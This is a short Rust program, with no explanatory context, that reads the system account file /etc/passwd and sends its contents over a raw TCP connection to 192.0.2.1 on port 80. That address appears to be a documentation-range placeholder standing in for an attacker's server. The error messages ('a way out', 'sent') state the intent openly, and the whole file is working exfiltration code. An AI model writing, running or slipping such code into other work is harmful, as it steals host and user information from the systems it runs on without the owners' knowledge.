use std::net::TcpStream;

fn main() {
    let users = std::fs::read_to_string("/etc/passwd").expect("the users of the host");
    let mut stream = TcpStream::connect("192.0.2.1:80").expect("a way out");
    std::io::Write::write_all(&mut stream, users.as_bytes()).expect("sent");
}
